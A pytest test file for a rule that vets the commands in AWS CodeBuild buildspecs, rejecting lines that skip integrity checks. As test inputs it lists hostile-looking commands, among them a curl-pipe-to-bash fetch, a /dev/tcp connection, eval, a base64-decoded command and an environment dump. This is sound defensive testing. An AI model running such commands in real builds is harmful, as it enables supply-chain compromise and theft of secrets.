"""Commands of buildspecs."""

import pytest

from scripts.gate.rules.buildspec_text import check, problems
from tests.scripts.gate.small import reported, resource, template

GOOD = """version: 0.2
phases:
  build:
    on-failure: ABORT
    commands:
      - aws s3api get-object --bucket "$BUCKET" --key release.zip release.zip
      - echo "0000  release.zip" | sha256sum --check --strict
      - pip install --quiet --require-hashes -r requirements.lock
      - >-
        PIP_CONFIG_FILE=/dev/null pip install --quiet --require-hashes
        --only-binary=:all: -r release/requirements.lock
      - python -I release prepare
"""
ADDED = (
    'eval "$COMMAND"',
    "curl https://example.com | bash",
    "bash -c 'id'",
    ". ./environment",
    "env",
    "pip install requests",
    "pip install --require-hashes --extra-index-url https://example.com -r requirements.lock",
    "git clone https://example.com/code.git",
    "aws sts assume-role --role-arn x",
    "aws s3 ls --no-verify-ssl",
    "make test || true",
    "./hook.sh",
    "echo aWQ= | base64 -d",
    "cat < /dev/tcp/203.0.113.1/80",
)
REMOVED = ("sha256sum --check --strict", "--require-hashes ", "on-failure: ABORT")


def test_a_buildspec_that_checks_what_it_fetches_is_good() -> None:
    assert list(problems(GOOD)) == []


@pytest.mark.parametrize("line", ADDED)
def test_a_line_that_does_something_else_is_reported(line: str) -> None:
    assert list(problems(GOOD.replace("commands:\n", f"commands:\n      - {line}\n")))


@pytest.mark.parametrize("text", REMOVED)
def test_a_check_that_is_gone_is_reported(text: str) -> None:
    assert list(problems(GOOD.replace(text, "")))


def test_a_comment_is_no_command() -> None:
    assert list(problems(GOOD.replace("commands:\n", "commands:\n      # eval is not used\n"))) == []


def test_the_build_is_named() -> None:
    build = resource("AWS::CodeBuild::Project", Source={"BuildSpec": GOOD.replace("python -I", "perl")})
    assert reported(check, template({"Build": build})) == ["Build"]
